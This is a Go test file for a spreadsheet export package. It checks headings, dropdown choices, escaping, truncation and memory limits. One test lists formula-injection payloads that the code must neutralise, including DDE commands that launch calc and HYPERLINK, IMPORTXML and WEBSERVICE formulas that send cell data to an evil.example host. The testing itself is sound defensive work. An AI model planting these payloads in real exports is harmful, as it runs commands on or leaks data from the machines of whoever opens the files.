package sheet_test

import (
	"bytes"
	"io"
	"os"
	"runtime"
	"runtime/debug"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"jikong/internal/sheet"
	"jikong/internal/value"
)

// write makes a file and returns its bytes.
func write(t testing.TB, heads []sheet.Head, rows ...[]any) []byte {
	t.Helper()
	var out bytes.Buffer
	w, err := sheet.NewWriter(&out, "宣传单", "导出人：张三", heads)
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows {
		if err := w.Row(row); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// cells reads the rows back with our own reader.
func cells(t testing.TB, file []byte) []sheet.Row {
	t.Helper()
	var rows []sheet.Row
	for row, err := range sheet.Read(bytes.NewReader(file), int64(len(file)), sheet.Usual(10_000)) {
		if err != nil {
			t.Fatal(err)
		}
		rows = append(rows, row)
	}
	return rows
}

func TestAFileHasTitleNoteHeadingsAndRows(t *testing.T) {
	at, err := value.ParseTime("2026-11-20 09:30:00")
	if err != nil {
		t.Fatal(err)
	}
	heads := []sheet.Head{{Label: "标题", Required: true}, {Label: "份数", Number: true}, {Label: "彩色"}, {Label: "时间"}, {Label: "日期"}, {Label: "编号"}}
	file := write(t, heads, []any{"流感须知", int64(100), true, at, value.Date("2026-10-01"), value.ID(1_857_000_000_000_000_001)}, []any{nil, int64(9_007_199_254_740_993)})
	book, err := excelize.OpenReader(bytes.NewReader(file))
	if err != nil {
		t.Fatal(err)
	}
	defer book.Close()
	for _, want := range []struct {
		cell, text string
		kind       excelize.CellType
	}{
		{"A1", "宣传单", excelize.CellTypeInlineString}, {"A2", "导出人：张三", excelize.CellTypeInlineString}, {"A3", "*标题", excelize.CellTypeInlineString},
		{"A4", "流感须知", excelize.CellTypeInlineString}, {"B4", "100", excelize.CellTypeNumber}, {"C4", "是", excelize.CellTypeInlineString},
		{"D4", "2026-11-20 09:30:00", excelize.CellTypeInlineString}, {"E4", "2026-10-01", excelize.CellTypeInlineString},
		{"F4", "1857000000000000001", excelize.CellTypeInlineString}, {"B5", "9007199254740993", excelize.CellTypeInlineString},
	} {
		text, err := book.GetCellValue("Sheet1", want.cell)
		if err != nil || text != want.text {
			t.Errorf("%s is %q (%v), want %q", want.cell, text, err, want.text)
		}
		if kind, err := book.GetCellType("Sheet1", want.cell); err != nil || kind != want.kind && !(want.kind == excelize.CellTypeNumber && kind == excelize.CellTypeUnset) {
			t.Errorf("%s has type %v (%v), want %v", want.cell, kind, err, want.kind)
		}
	}
}

func TestChoicesAreOfferedBelowTheHeading(t *testing.T) {
	many := strings.Split(strings.Repeat("选项很长的文字,", 60)+"完", ",")
	file := write(t, []sheet.Head{{Label: "标题"}, {Label: "主题", Options: []string{"疫苗", "儿童"}}, {Label: "部门", Options: many}})
	book, err := excelize.OpenReader(bytes.NewReader(file))
	if err != nil {
		t.Fatal(err)
	}
	defer book.Close()
	rules, err := book.GetDataValidations("Sheet1")
	if err != nil || len(rules) != 2 || rules[0].Formula1 != "选项!$A$1:$A$2" || rules[1].Formula1 != "选项!$B$1:$B$61" || rules[1].Sqref != "C4:C1048576" {
		t.Errorf("rules %+v, %v", rules, err)
	}
	if shown, err := book.GetSheetVisible("选项"); err != nil || shown {
		t.Errorf("the sheet of the choices is visible: %v, %v", shown, err)
	}
	if rows := cells(t, file); len(rows) != 3 {
		t.Errorf("a template has %d rows", len(rows))
	}
}

// Payloads from the public lists on formula injection, and texts that look alike and must stay as they are.
func TestNoTextBecomesAFormula(t *testing.T) {
	active := []string{
		"=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "　=1+1", "\u00a0=1+1",
		"\ufeff=1+1", "\u200b=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", `=HYPERLINK("http://evil.example?x="&A1,"点击")`, "=IMPORTXML(CONCAT(\"http://evil\",A1),\"//a\")",
		"=DDE(\"cmd\";\"/C calc\";\"x\")", "-2+3+cmd|' /C calc'!D2", "@@=1", "=WEBSERVICE(\"http://evil\")", "\t", "-", "+8613800000000", "'=1+1",
	}
	quiet := []string{"流感=好", "a-b", "x@y.cn", "1+1", "'t", "''", "\"=1+1\"", ";=1+1", "(=1)"}
	for _, text := range active {
		if text == "'=1+1" {
			continue // an apostrophe is text already
		}
		if guarded := sheet.Guard(text); guarded != "'"+text {
			t.Errorf("%q becomes %q", text, guarded)
		}
		if back := sheet.Unguard(sheet.Guard(text)); back != text {
			t.Errorf("%q comes back as %q", text, back)
		}
	}
	for _, text := range quiet {
		if sheet.Guard(text) != text {
			t.Errorf("%q is changed to %q", text, sheet.Guard(text))
		}
	}
	var rows [][]any
	for _, text := range append(active, quiet...) {
		rows = append(rows, []any{text})
	}
	file := write(t, []sheet.Head{{Label: "=HEAD()"}}, rows...)
	book, err := excelize.OpenReader(bytes.NewReader(file))
	if err != nil {
		t.Fatal(err)
	}
	defer book.Close()
	for number := 3; number <= 3+len(rows); number++ {
		cell, _ := excelize.CoordinatesToCellName(1, number)
		if formula, err := book.GetCellFormula("Sheet1", cell); err != nil || formula != "" {
			t.Errorf("%s is the formula %q (%v)", cell, formula, err)
		}
		text, err := book.GetCellValue("Sheet1", cell)
		if err != nil || sheet.Guard(text) != text {
			t.Errorf("%s would be read as a formula from a CSV file: %q (%v)", cell, text, err)
		}
	}
}

func TestATextThatLooksEscapedComesBackAsItWas(t *testing.T) {
	texts := []string{"d_x000D_e", "_x005F_", "_x005F_x000D_", "a_x_b", "第一行\n第二行"}
	var rows [][]any
	for _, text := range texts {
		rows = append(rows, []any{text})
	}
	for i, row := range cells(t, write(t, []sheet.Head{{Label: "正文"}}, rows...))[3:] {
		if row.Cells[0] != texts[i] {
			t.Errorf("%q comes back as %q", texts[i], row.Cells[0])
		}
	}
}

func TestTextsNoCellCanHoldAreCutAndStrangeCharactersDoNotBreakTheFile(t *testing.T) {
	long := strings.Repeat("疾😀", 30_000)
	file := write(t, []sheet.Head{{Label: "正文"}}, []any{long}, []any{"a\x00\x01\x0b<&>\"\ufffe\xff尾"}, []any{strings.Repeat("长", 32_767)})
	rows := cells(t, file)
	if got := rows[3].Cells[0]; !strings.HasPrefix(got, "疾😀") || !strings.HasSuffix(got, "（内容过长，已截断）") {
		t.Errorf("a long text ends with %q", got[max(0, len(got)-60):])
	}
	if got := rows[4].Cells[0]; !strings.HasPrefix(got, "a") || !strings.HasSuffix(got, "尾") || !strings.Contains(got, "<&>\"") {
		t.Errorf("strange characters come back as %q", got)
	}
	if got := rows[5].Cells[0]; got != strings.Repeat("长", 32_767) {
		t.Errorf("a text that just fits has %d bytes", len(got))
	}
}

// The specification of the export: 200,000 rows of 12 columns with at most 100 MB extra memory.
func TestALongExportNeedsLittleMemory(t *testing.T) {
	if testing.Short() {
		t.Skip("writes 200,000 rows")
	}
	defer debug.SetGCPercent(debug.SetGCPercent(100)) // as in the program
	var before, now runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	peak := uint64(0)
	writeMany(t, 200_000, func(row int) {
		if row%10_000 == 0 {
			runtime.ReadMemStats(&now)
			peak = max(peak, now.HeapInuse)
		}
	})
	if grown := int64(peak) - int64(before.HeapInuse); grown > 100<<20 {
		t.Errorf("the heap grew by %d MB", grown>>20)
	}
}

func BenchmarkWrite200000RowsOf12Columns(b *testing.B) {
	for b.Loop() {
		writeMany(b, 200_000, func(int) {})
	}
}

func writeMany(tb testing.TB, n int, each func(row int)) {
	tb.Helper()
	out, err := os.CreateTemp(tb.TempDir(), "*.xlsx")
	if err != nil {
		tb.Fatal(err)
	}
	defer out.Close()
	w, err := sheet.NewWriter(&meter{Writer: out, each: each}, "日志", "导出人：张三", make([]sheet.Head, 12))
	if err != nil {
		tb.Fatal(err)
	}
	row := make([]any, 12)
	for i := range n {
		for column := range row {
			row[column] = "第" + value.ID(i*12+column).String() + "个单元格"
		}
		row[1], row[2], row[3] = int64(i), value.Time(1_795_000_000_000+i*1000), i%2 == 0
		if err := w.Row(row); err != nil {
			tb.Fatal(err)
		}
		each(i)
	}
	if err := w.Close(); err != nil {
		tb.Fatal(err)
	}
}

// meter looks at the memory while the finished file is on its way, too.
type meter struct {
	io.Writer
	each func(int)
}

func (m *meter) Write(p []byte) (int, error) {
	m.each(0)
	return m.Writer.Write(p)
}
